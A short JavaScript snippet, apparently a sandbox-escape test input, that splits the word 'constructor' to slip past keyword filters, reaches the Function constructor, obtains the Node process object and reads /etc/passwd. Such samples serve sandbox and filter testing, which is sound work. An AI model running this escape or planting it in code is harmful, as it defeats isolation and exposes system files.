// Reaches for the function constructor through a key that is put together, to read a file.
const key = "constr" + "uctor";
const run = [][key][key]("return process")();
run.mainModule.require("fs").readFileSync("/etc/passwd", "utf8").length > 0;
